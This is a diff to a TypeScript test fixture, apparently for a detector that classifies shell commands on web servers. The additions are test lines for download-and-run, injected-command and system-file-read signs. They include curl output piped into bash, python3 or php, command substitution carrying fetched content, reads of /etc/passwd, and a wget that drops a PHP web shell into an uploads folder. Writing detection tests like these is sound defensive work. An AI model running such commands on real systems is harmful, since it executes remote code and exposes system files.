@@ -148,6 +148,9 @@ const GRAVE: readonly Line[] = [
   ['sh', "vim -c ':!sh'"],
   ['sh', "wget -q -O - 'http://203.0.113.9/api'"],
   ['sh', 'xargs -a /etc/passwd'],
+  ['argv', 'curl -sS -o /tmp/tmpAb3dE9 https://cdn.example.org/a'],
+  ['sh', 'curl -sS -o /tmp/phpAb3dE9 https://cdn.example.org/a && mv /tmp/phpAb3dE9 /srv/x'],
+  ['sh', 'curl -sS -o /tmp/phpAb3dE9 https://cdn.example.org/a; chmod +x /tmp/phpAb3dE9'],
 ];
 
 const ALERTS: readonly Line[] = [
@@ -334,6 +337,8 @@ const QUIET: readonly Line[] = [
   ['sh', 'w -hs'],
   ['sh', "wp user create 'anna' 'anna@example.org'"],
   ['sh', "zip -r a.zip '/var/www/html'"],
+  ['sh', 'curl -s https://api.example.org/x | /usr/bin/php -q /srv/app/read.php'],
+  ['sh', "grep -q '^nginx:' /etc/passwd"],
 ];
 
 /** Where others make the risk as high without it. */
@@ -414,6 +419,44 @@ const SEEN: readonly (readonly [SignId, ...Line])[] = [
   ],
   ['web_shell_marker', 'sh', 'echo a1b2c3; id; echo d4e5f6'],
   ['web_shell_written', 'argv', 'wget http://194.38.20.3/w.php -O wp-content/uploads/w.php'],
+  ['download_run', 'sh', 'curl -s https://api.example.org/x | /tmp/python3 /srv/app/read.py'],
+  [
+    'download_run',
+    'sh',
+    'curl -s https://api.example.org/x | BASH_ENV=/dev/stdin bash /srv/app/read.sh',
+  ],
+  ['download_run', 'sh', 'curl -s https://api.example.org/x | bash /dev/stdin'],
+  ['download_run', 'sh', 'curl -s https://api.example.org/x | bash -s /srv/app/a'],
+  [
+    'download_run',
+    'sh',
+    'curl -s https://api.example.org/x | php -d auto_prepend_file=/dev/stdin /srv/app/read.php',
+  ],
+  ['download_run', 'sh', 'curl -s https://api.example.org/x | python3 - /srv/app/read.py'],
+  ['download_run', 'sh', 'curl -s https://api.example.org/x | python3 /proc/self/fd/0'],
+  ['download_run', 'sh', 'curl -s https://api.example.org/x | python3 /srv/../tmp/read.py'],
+  ['download_run', 'sh', 'curl -s https://api.example.org/x | python3 /srv/app/.x/read.py'],
+  ['download_run', 'sh', 'curl -s https://api.example.org/x | python3 /srv/app/uploads/read.py'],
+  ['download_run', 'sh', 'curl -s https://api.example.org/x | python3 /tmp/read.py'],
+  ['download_run', 'sh', 'curl -s https://api.example.org/x | python3 /run/user/33/read.py'],
+  ['download_run', 'sh', 'curl -s https://api.example.org/x | python3 /usr/lib/python3/code.py'],
+  ['download_run', 'sh', 'curl -s https://api.example.org/x | python3 read.py'],
+  ['download_run', 'sh', 'curl -s https://api.example.org/x | python3 /srv/app/read.py | sh'],
+  ['injected_command', 'sh', 'curl -s https://api.example.org/x | base64 /srv/app/key'],
+  ['injected_command', 'sh', 'echo "$(curl -s https://example.org/version)" > /srv/a'],
+  ['injected_command', 'sh', 'echo "$(curl -s https://example.org/version)" | sh'],
+  ['injected_command', 'sh', 'echo "Hello $(curl -s https://example.org/version)"'],
+  ['injected_command', 'sh', 'echo "$(id)"'],
+  ['injected_command', 'sh', 'ping -c 1 10.0.0.20; python3 /srv/app/read.py'],
+  ['injected_command', 'sh', 'echo $(curl -s https://example.org/version)'],
+  ['injected_command', 'sh', 'ls "$(curl -s https://example.org/version)"'],
+  ['injection_probe', 'sh', 'echo hello | base64 | cut -c1-3'],
+  ['system_file_read', 'sh', "cat '^www-data:' /etc/passwd"],
+  ['system_file_read', 'sh', "grep '^root:' /etc/passwd"],
+  ['system_file_read', 'sh', "grep '^www-data:' /etc/passwd /etc/hosts"],
+  ['system_file_read', 'sh', "grep '^www-data:' /etc/hosts"],
+  ['system_file_read', 'sh', "grep -v '^www-data:' /etc/passwd"],
+  ['system_file_read', 'sh', 'grep ^www-data: /etc/passwd'],
 ];
 
 const NOT_SEEN: readonly (readonly [SignId, ...Line])[] = [
